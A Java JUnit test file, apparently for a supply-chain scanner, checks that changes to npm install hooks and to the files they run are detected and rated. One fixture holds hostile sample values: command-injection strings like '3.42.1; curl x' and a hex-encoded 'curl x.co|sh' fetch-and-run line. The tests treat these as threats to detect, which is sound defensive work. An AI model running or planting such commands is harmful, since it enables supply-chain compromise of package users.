package dev.assay.scanners.delta;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.Finding;
import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.finding.Severity;
import dev.assay.scanners.profile.Packages;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.util.List;

/** What runs on installation: the hook, its command, and every file behind it. */
class InstallHookChangesTest {

    private static final String PLAIN = "{\"name\": \"a\", \"main\": \"index.js\"}";
    private static final String IDLE = "require('https').get('https://x.example')";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    node lib/x.js
                    node lib/x
                    node ./lib/x.js --quiet
                    node .\\\\lib\\\\x.js
                    sh run.sh
                    npm run y
                    npm run y --silent
                    yarn y
                    npm-run-all z y
                    node --run y
                    npm run chain
                    npm run hooked
                    echo hi && node lib/x.js
                    node lib/x.js || true
                    cd lib && node x.js
                    node -r ./lib/x.js -e 0
                    node -e "require('./lib/x')"
                    node starts.js
                    node imports.mjs
                    node spawns.js
                    node joins.js
                    """)
    void namesTheFileThatAHookArms(String command) {
        var finding =
                hook(
                        shipped("{\"name\": \"a\", \"main\": \"index.js\"}"),
                        shipped(
                                """
                                {"name": "a", "main": "index.js", "scripts": {
                                  "y": "node lib/x.js", "z": "echo z", "chain": "npm run y",
                                  "hooked": "echo", "posthooked": "node lib/x.js",
                                  "postinstall": "%s"}}
                                """
                                        .formatted(command.replace("\"", "\\\""))));

        assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(finding.title())
                .contains("lib/x.js")
                .endsWith(", shipped since the version compared with");
        assertThat(finding.evidence()).anyMatch(at -> at.file().equals("lib/x.js"));
    }

    private static Packages shipped(String manifest) {
        return Packages.npm("a", "1.0.0")
                .manifest(manifest)
                .file("index.js", "module.exports = 1")
                .file("lib/x.js", IDLE)
                .file("run.sh", "#!/bin/sh\nnode lib/x.js\n")
                .file("starts.js", "require('./lib/x')")
                .file("imports.mjs", "import './lib/x.js'")
                .file("spawns.js", "require('child_process').execSync('node lib/x.js')")
                .file("joins.js", "require(require('path').join(__dirname, 'lib', 'x.js'))");
    }

    @Test
    void saysThatTheFilesBehindTheSameCommandArmAnother() {
        var manifest = "{\"name\": \"a\", \"scripts\": {\"postinstall\": \"node setup.js\"}}";
        var finding =
                hook(
                        Packages.npm("a", "1.0.0")
                                .manifest(manifest)
                                .file("setup.js", "done()")
                                .file("lib/x.js", IDLE),
                        Packages.npm("a", "1.0.1")
                                .manifest(manifest)
                                .file("setup.js", "require('./lib/x'); done()")
                                .file("lib/x.js", IDLE));

        assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(finding.title()).contains("it arms lib/x.js, shipped since");
        assertThat(finding.detail()).containsEntry("armedFiles", List.of("lib/x.js"));
    }

    @Test
    void knowsAnArmedFileUnderAnotherNameAndEnding() {
        var finding =
                hook(
                        Packages.npm("a", "1.0.0").manifest(PLAIN).file("assets/logo.png", IDLE),
                        Packages.npm("a", "1.0.1")
                                .manifest(
                                        "{\"name\": \"a\", \"scripts\": {\"install\": \"node setup.js\"}}")
                                .file("setup.js", IDLE));

        assertThat(finding.title()).contains("it arms setup.js");
    }

    @Test
    void doesNotSayArmedOfANewFileOrOfOneThatRanBefore() {
        var finding =
                hook(
                        Packages.npm("a", "1.0.0")
                                .manifest(PLAIN)
                                .file("index.js", "require('./util')")
                                .file("util.js", "module.exports = 2"),
                        Packages.npm("a", "1.0.1")
                                .manifest(
                                        "{\"name\": \"a\", \"main\": \"index.js\", \"scripts\": {\"install\": \"node setup.js\"}}")
                                .file("index.js", "require('./util')")
                                .file("util.js", "module.exports = 2")
                                .file("setup.js", "require('./util'); require('./package.json')"));

        assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(finding.title()).doesNotContain("arms");
    }

    @Test
    void isSilentWhenTheClosureIsTheSame() {
        var manifest = "{\"name\": \"a\", \"scripts\": {\"postinstall\": \"node setup.js\"}}";
        assertThat(
                        hooks(
                                Packages.npm("a", "1.0.0")
                                        .manifest(manifest)
                                        .file("setup.js", "a()")
                                        .file("other.js", "b()"),
                                Packages.npm("a", "1.0.1")
                                        .manifest(manifest)
                                        .file("setup.js", "a()")
                                        .file("other.js", "c()")))
                .isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    node -e "try { require('fs').chmodSync('./lib/x.js', '755') } catch (e) {}" | 0
                    chmod +x lib/x.js                                                          | 0
                    chmod +x lib/x.js && ./lib/x.js                                            | 1
                    node -e "o.chmodSync('./lib/x.js', require)"                               | 1
                    """)
    void doesNotTakeAFileThatIsOnlyMarkedForOneThatRuns(String command, int changes) {
        var manifest =
                "{\"name\": \"a\", \"main\": \"index.js\", \"scripts\": {\"postinstall\": \"%s\"}}"
                        .formatted(command.replace("\"", "\\\""));

        var findings =
                hooks(
                        Packages.npm("a", "1.0.0")
                                .manifest(manifest)
                                .file("lib/x.js", "exports.a = () => 1"),
                        Packages.npm("a", "1.0.1")
                                .manifest(manifest)
                                .file("lib/x.js", "exports.a = () => fetch(b)"));

        assertThat(findings).hasSize(changes);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    {"made": "2026-09-16T02:31:10.655Z"} | {"made": "2026-09-16T02:58:04.943Z"} | LOW
                    {"version": "3.42.1"}                | {"version": "3.42.2"}                | LOW
                    {"on": "^3.0.0-alpha.23"}            | {"on": "^3.0.0-alpha.24"}            | LOW
                    {"commit": "702d1461"}               | {"commit": "9c61c86f"}               | LOW
                    3.42.0                               | 3.42.2                               | LOW
                    {"run": "echo a"}                    | {"run": "curl x.example"}            | HIGH
                    {"version": "3.42.1"}                | {"version": "3.42.1; curl x"}        | HIGH
                    {"made": "2026-09-16"}               | {"made": "node x.js"}                | HIGH
                    {"a": "702d1461"}                    | {"b": "702d1461"}                    | HIGH
                    {"a": "ff"}                          | {"a": "6375726c20782e636f7c7368"}    | HIGH
                    3.42.0                               | 3.42.0 & curl x                      | HIGH
                    """)
    void weighsDataBehindAHookByWhatChangedInIt(String before, String now, Severity severity) {
        var manifest = "{\"name\": \"a\", \"scripts\": {\"postinstall\": \"node setup.js\"}}";
        var setup = "run(require('./data.json'))";

        var finding =
                hook(
                        Packages.npm("a", "1.0.0")
                                .manifest(manifest)
                                .file("setup.js", setup)
                                .file("data.json", before),
                        Packages.npm("a", "1.0.1")
                                .manifest(manifest)
                                .file("setup.js", setup)
                                .file("data.json", now));

        assertThat(finding.severity()).isEqualTo(severity);
        assertThat(finding.detail()).containsEntry("changedFiles", List.of("data.json"));
    }

    @Test
    void seesTheFilesThatABuildRuns() {
        var gyp = "{'targets': [{'actions': [{'action': ['node', 'tools/gen.js']}]}]}";
        var manifest = "{\"name\": \"a\", \"scripts\": {\"install\": \"node-gyp rebuild\"}}";
        var finding =
                hook(
                        Packages.npm("a", "1.0.0")
                                .manifest(manifest)
                                .file("binding.gyp", gyp)
                                .file("tools/gen.js", "a()"),
                        Packages.npm("a", "1.0.1")
                                .manifest(manifest)
                                .file("binding.gyp", gyp)
                                .file("tools/gen.js", "a(); b()"));

        assertThat(finding.detail()).containsEntry("changedFiles", List.of("tools/gen.js"));
    }

    @Test
    void takesGypfileFalseForNoBuild() {
        assertThat(
                        hooks(
                                Packages.npm("a", "1.0.0").manifest(PLAIN),
                                Packages.npm("a", "1.0.1")
                                        .manifest("{\"name\": \"a\", \"gypfile\": false}")
                                        .file("binding.gyp", "{}")))
                .isEmpty();
    }

    @Test
    void weighsPrepareLowSinceOnlyGitRunsIt() {
        var finding =
                hook(
                        Packages.npm("a", "1.0.0").manifest(PLAIN),
                        Packages.npm("a", "1.0.1")
                                .manifest(
                                        "{\"name\": \"a\", \"scripts\": {\"prepare\": \"node build.js\"}}"));

        assertThat(finding.severity()).isEqualTo(Severity.LOW);
        assertThat(finding.title()).startsWith("Installing from git now runs");
    }

    @Test
    void isSilentAboutScriptsThatNobodyRunsOnInstallation() {
        assertThat(
                        hooks(
                                Packages.npm("a", "1.0.0").manifest(PLAIN),
                                Packages.npm("a", "1.0.1")
                                        .manifest(
                                                "{\"name\": \"a\", \"scripts\": {\"test\": \"node t.js\", \"build\": \"tsc\"}}")))
                .isEmpty();
    }

    private static Finding hook(Packages from, Packages to) {
        var hooks = hooks(from, to);
        assertThat(hooks).hasSize(1);
        return hooks.getFirst();
    }

    private static List<Finding> hooks(Packages from, Packages to) {
        return new DeltaEngine()
                .compare(from.profile(), to.profile()).findings().stream()
                        .filter(finding -> finding.kind() == FindingKind.INSTALL_HOOK)
                        .toList();
    }
}
